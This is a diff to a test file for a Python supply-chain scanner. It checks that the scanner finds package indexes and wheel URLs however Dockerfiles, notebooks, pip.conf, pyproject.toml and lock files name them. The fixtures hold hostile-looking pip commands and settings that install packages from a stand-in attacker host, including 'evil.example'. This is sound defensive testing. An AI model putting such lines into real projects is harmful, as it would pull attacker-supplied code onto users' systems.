@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -11,6 +12,7 @@ from pip._internal.models.search_scope import SearchScope
 from pip._internal.models.selection_prefs import SelectionPreferences
 from pip._internal.network.session import PipSession
 from pip._internal.req.req_file import parse_requirements
+from tests.samples.vetting import report_on
 
 from weighmaster import shipped
 from weighmaster.engine.scan import scan_bytes
@@ -71,14 +73,24 @@ def test_what_pip_sees_is_seen(id: str, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "name",
-    ["requirements.txt", "pyproject.toml", "uv.lock", "poetry.lock", "Pipfile", "environment.yml", "Dockerfile.gpu",
-     "setup.cfg", "setup.py", "start.pth", "install.sh", "pip.conf", "sub/pylock.dev.toml"],
-)  # fmt: skip
-def test_what_is_padded_beyond_what_is_looked_through_is_said_to_be_unread(name: str) -> None:
-    data = _PAD.encode() * 1_800_000 + b"import os\n"
-    assert any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in _items(data, name))
-    assert not any(isinstance(item, Gap) for item in _items(data, "notes.txt"))
+    ("name", "size"),
+    [
+        ("requirements.txt", 5 << 20),
+        ("setup.py", 5 << 20),
+        ("start.pth", 5 << 20),
+        ("Dockerfile.gpu", 2 << 20),
+        ("install.sh", 2 << 20),
+        ("pyproject.toml", 17 << 20),
+        ("sub/pylock.dev.toml", 17 << 20),
+    ],
+)
+def test_what_is_padded_beyond_what_is_looked_through_is_said_to_be_unread(name: str, size: int) -> None:
+    items = _items(_PAD.encode() * (size // len(_PAD)) + b"import os\n", name)
+    assert any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in items)
+
+
+def test_a_long_text_that_no_tool_reads_is_no_gap() -> None:
+    assert not any(isinstance(item, Gap) for item in _items(_PAD.encode() * 550_000, "notes.txt"))
 
 
 def test_an_encoding_that_takes_too_long_is_said_to_be_unread() -> None:
@@ -99,3 +111,94 @@ def test_source_that_begins_as_data_does_is_source(opening: str) -> None:
 def test_json_is_no_source(text: str) -> None:
     artifact = next(item for item in _items(text.encode(), "a.json") if hasattr(item, "formats"))
     assert "python" not in artifact.formats
+
+
+_INSTALL = f"pip install -i {_EVIL} foo"
+_ENV = f"PIP_INDEX_URL={_EVIL}"
+
+
+def _cell(source: str) -> str:
+    return json.dumps({"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": source}]})
+
+
+RECIPES: dict[str, tuple[str, str]] = {
+    "two variables": ("Dockerfile", f"FROM x\nENV A=b {_ENV}\n"),
+    "quoted variable": ("Dockerfile", f'FROM x\nENV A="b c" PIP_INDEX_URL="{_EVIL}"\n'),
+    "escape": ("Dockerfile", f"# escape=`\nFROM x\nRUN pip install `\n  -i {_EVIL} `\n foo\n"),
+    "document": ("Dockerfile", f"FROM x\nRUN <<EOF\n{_INSTALL}\nEOF\n"),
+    "blank line": ("Dockerfile", f"FROM x\nRUN \\\n# comment\n\n  {_INSTALL}\n"),
+    "for one command": ("Dockerfile", f"FROM x\nRUN {_ENV} pip install foo\n"),
+    "configured": ("Dockerfile", f"FROM x\nRUN pip config set global.index-url {_EVIL}\n"),
+    "words": ("Dockerfile", f'FROM x\nRUN ["pip","install","-i","{_EVIL}","foo"]\n'),
+    "broken word": ("Dockerfile", f"FROM x\nRUN pip i\\\nnstall -i {_EVIL} foo\n"),
+    "option before": ("install.sh", f"#!/bin/sh\npip --proxy http://p -i {_EVIL} install foo\n"),
+    "interpreter": ("a.ipynb", _cell(f"!{{sys.executable}} -m {_INSTALL}")),
+    "answer": ("a.ipynb", _cell(f"x = !{_INSTALL}")),
+    "called": ("a.ipynb", _cell(f"get_ipython().system('{_INSTALL}')")),
+    "no mark": ("a.ipynb", _cell(_INSTALL)),
+    "set": ("a.ipynb", _cell(f"%env {_ENV}\n%pip install foo")),
+    "assigned": ("a.ipynb", _cell(f"!{_ENV} pip install foo")),
+    "after another": ("a.ipynb", _cell(f"!cd x && {_INSTALL}")),
+    "capitals": ("pip.conf", f"[install]\nINDEX-URL: {_EVIL}\n"),
+    "dashes": ("pip.conf", f"[install]\n--index_url = {_EVIL}\n"),
+}
+
+
+@pytest.mark.parametrize("id", RECIPES)
+def test_an_index_is_found_however_a_recipe_names_it(id: str) -> None:
+    name, text = RECIPES[id]
+    assert [item.target for item in _items(text.encode(), name) if isinstance(item, Index)] == [_EVIL]
+
+
+_WHEEL = f"foo @ {_EVIL}/x.whl"
+PLACES: dict[str, tuple[str, str]] = {
+    "merge": ("environment.yml", f"x: &d {{dependencies: [{{pip: ['{_WHEEL}']}}]}}\nchannels: [c]\n<<: *d\n"),
+    "anchor": ("environment.yml", f"x: &d\n - pip: ['{_WHEEL}']\nchannels: [c]\ndependencies: *d\n"),
+    "hook": ("pyproject.toml", f'[project]\nname="a"\n[tool.hatch.build.hooks.x]\ndependencies=["{_WHEEL}"]\n'),
+    "hook of a target": (
+        "pyproject.toml",
+        f'[project]\nname="a"\n[tool.hatch.build.targets.wheel.hooks.x]\ndependencies=["{_WHEEL}"]\n',
+    ),
+    "build of another": (
+        "pyproject.toml",
+        f'[project]\nname="a"\n[tool.uv.extra-build-dependencies]\nz=["{_WHEEL}"]\n',
+    ),
+    "held while built": (
+        "pyproject.toml",
+        f'[project]\nname="a"\n[tool.uv]\nbuild-constraint-dependencies=["{_WHEEL}"]\n',
+    ),
+    "pixi": ("pyproject.toml", f'[project]\nname="a"\n[tool.pixi.pypi-dependencies]\nfoo={{url="{_EVIL}/x.whl"}}\n'),
+}
+
+
+@pytest.mark.parametrize("id", PLACES)
+def test_an_address_is_found_wherever_a_tool_takes_it_from(id: str) -> None:
+    name, text = PLACES[id]
+    found = [item for item in _items(text.encode(), name) if isinstance(item, Dependency) and item.source == "url"]
+    assert [(one.name, one.target) for one in found] == [("foo", f"{_EVIL}/x.whl")]
+
+
+@pytest.mark.parametrize(
+    ("file", "told"),
+    [
+        ("evil-2.0-py3-none-any.whl", "locked-file-elsewhere"),
+        ("requests_evil-2.0.tar.gz", "locked-file-elsewhere"),
+        ("requests-2.0-py3-none-any.whl", ""),
+        ("Requests-2.0.tar.gz", ""),
+    ],
+)
+def test_a_lock_that_takes_the_file_of_another_project_is_told(file: str, told: str) -> None:
+    lock = (
+        'version = 1\n[[package]]\nname = "requests"\nversion = "2.0"\n'
+        'source = { registry = "https://pypi.org/simple" }\n'
+        f'wheels = [{{ url = "https://files.pythonhosted.org/packages/aa/{file}", hash = "sha256:{"a" * 64}" }}]\n'
+    )
+    report = report_on(lock.encode(), "uv.lock")
+    assert ("locked-file-elsewhere" in {finding.rule.id for finding in report.findings}) is bool(told)
+
+
+@pytest.mark.parametrize("name", ["Dockerfile", "install.sh"])
+def test_requirements_at_an_address_are_not_seen(name: str) -> None:
+    begin = "FROM x\nRUN" if name == "Dockerfile" else "#!/bin/sh\n"
+    report = report_on(f"{begin} pip install -r https://evil.example/r.txt\n".encode(), name)
+    assert "include-not-seen" in {finding.rule.id for finding in report.findings}
